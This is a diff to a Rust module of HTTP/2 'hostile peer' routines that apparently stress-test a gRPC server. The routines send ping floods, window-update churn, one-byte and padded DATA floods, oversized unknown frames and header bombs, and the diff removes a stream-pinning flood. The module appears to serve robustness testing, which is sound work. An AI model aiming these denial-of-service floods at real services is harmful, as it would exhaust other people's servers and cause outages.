@@ -1,12 +1,9 @@
 //! Frames that a peer should not send, or not so many of.
 
-use std::{io, sync::Arc};
+use std::io;
 
 use futures_util::future::BoxFuture;
-use tokio::{
-    io::{AsyncWriteExt as _, split},
-    sync::Semaphore,
-};
+use tokio::io::{AsyncWriteExt as _, split};
 
 use super::{
     HostilePeer, PLACE, REFLECTION, WATCH,
@@ -15,19 +12,19 @@ use super::{
 };
 use crate::peers::{
     CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PADDED, PING, PREFACE, PRIORITY,
-    RST_STREAM, SETTINGS, SETTINGS_FRAME, WINDOW_UPDATE, field, grpc_head, raw_frame, read_frame,
+    RST_STREAM, SETTINGS, SETTINGS_FRAME, WINDOW_UPDATE, field, grpc_head, raw_frame,
 };
 
-type Attacking = BoxFuture<'static, ()>;
+pub type Attacking = BoxFuture<'static, ()>;
 
 /// Of a type that no standard defines: it must be ignored (RFC 9113, section 4.1).
-const UNKNOWN: u8 = 0xfa;
+pub const UNKNOWN: u8 = 0xfa;
 
 /// The largest frame that the server takes, and what is nearly that.
-const LARGE: usize = 16_000;
+pub const LARGE: usize = 16_000;
 
 /// Streams that one connection holds open; the server takes 256.
-const STREAMS: u32 = 250;
+pub const STREAMS: usize = 250;
 
 /// Sends `opening`, then what `next` gives, to the end of the connection.
 fn flood(
@@ -69,18 +66,19 @@ async fn try_flood(
     tokio::select! { ended = sending => ended, _ = reading => Ok(()) }
 }
 
-async fn open(peer: &HostilePeer, opening: &[u8]) -> io::Result<Paced> {
+/// A connection with its preface, and what else it begins with.
+pub async fn open(peer: &HostilePeer, opening: &[u8]) -> io::Result<Paced> {
     let mut stream = peer.connect().await?;
     stream.write_all(&[PREFACE, SETTINGS, opening].concat()).await?;
     Ok(stream)
 }
 
 /// The ids of a client's streams.
-fn ids() -> impl Iterator<Item = u32> + Send {
+pub fn ids() -> impl Iterator<Item = u32> + Send {
     (1..).step_by(2)
 }
 
-fn head(stream: u32, path: &str) -> Vec<u8> {
+pub fn head(stream: u32, path: &str) -> Vec<u8> {
     raw_frame(HEADERS, END_HEADERS, stream, &grpc_head(path))
 }
 
@@ -117,7 +115,7 @@ pub fn pings(peer: HostilePeer) -> Attacking {
 /// Each such frame changes the window of each stream.
 pub fn moving_windows(peer: HostilePeer) -> Attacking {
     let whole = |id| [head(id, WATCH), raw_frame(DATA, END_STREAM, id, &[0; 5])].concat();
-    let watches = ids().take(STREAMS as usize).flat_map(whole).collect();
+    let watches = ids().take(STREAMS).flat_map(whole).collect();
     flood(peer, watches, || [window_setting(0), window_setting(65_535)].concat().repeat(500))
 }
 
@@ -151,12 +149,12 @@ pub fn padded_data(peer: HostilePeer) -> Attacking {
 fn stuck_reflection() -> Vec<u8> {
     let request = grpc_message(&reflection_of_symbol("orders.v1.OrderService"));
     let stuck = |id| [head(id, REFLECTION), raw_frame(DATA, 0, id, &request.repeat(8))].concat();
-    window_setting(0).into_iter().chain(ids().take(STREAMS as usize).flat_map(stuck)).collect()
+    window_setting(0).into_iter().chain(ids().take(STREAMS).flat_map(stuck)).collect()
 }
 
 pub fn one_byte_data(peer: HostilePeer) -> Attacking {
     flood(peer, stuck_reflection(), || {
-        ids().take(STREAMS as usize).flat_map(|id| raw_frame(DATA, 0, id, &[0])).collect()
+        ids().take(STREAMS).flat_map(|id| raw_frame(DATA, 0, id, &[0])).collect()
     })
 }
 
@@ -164,7 +162,7 @@ pub fn one_byte_data(peer: HostilePeer) -> Attacking {
 pub fn pinning_data(peer: HostilePeer) -> Attacking {
     // As many as h2 keeps before it ends the connection: half of its window by 255 bytes.
     let mut left = 2000;
-    let mut streams = ids().take(STREAMS as usize).collect::<Vec<_>>().into_iter().cycle();
+    let mut streams = ids().take(STREAMS).collect::<Vec<_>>().into_iter().cycle();
     let filler = raw_frame(UNKNOWN, 0, 0, &[0; LARGE]);
     flood(peer, stuck_reflection(), move || {
         if left == 0 {
@@ -198,34 +196,4 @@ pub fn header_bombs(peer: HostilePeer) -> Attacking {
         let repeated = [grpc_head(PLACE), vec![0xbe; LARGE / 2]].concat();
         raw_frame(HEADERS, END_HEADERS | END_STREAM, ids.next().unwrap(), &repeated)
     })
-}
-
-/// As many calls without a body as a connection takes, each with a frame that the server may read with
-/// it; a new one for each that has ended.
-pub fn pinning_heads(peer: HostilePeer) -> Attacking {
-    Box::pin(async move {
-        let _ = try_pinning_heads(&peer).await;
-    })
-}
-
-async fn try_pinning_heads(peer: &HostilePeer) -> io::Result<()> {
-    let (mut reader, mut writer) = split(open(peer, &[]).await?);
-    let free = Arc::new(Semaphore::new(STREAMS as usize));
-    let filler = raw_frame(UNKNOWN, 0, 0, &[0; LARGE]);
-    let sending = async {
-        for id in ids() {
-            free.acquire().await.unwrap().forget();
-            writer.write_all(&[head(id, PLACE), filler.clone()].concat()).await?;
-        }
-        Ok(())
-    };
-    let reading = async {
-        while let Some(frame) = read_frame(&mut reader).await {
-            let ends = matches!(frame.kind, HEADERS | DATA) && frame.flags & END_STREAM != 0;
-            if ends || frame.kind == RST_STREAM {
-                free.add_permits(1);
-            }
-        }
-    };
-    tokio::select! { ended = sending => ended, () = reading => Ok(()) }
 }
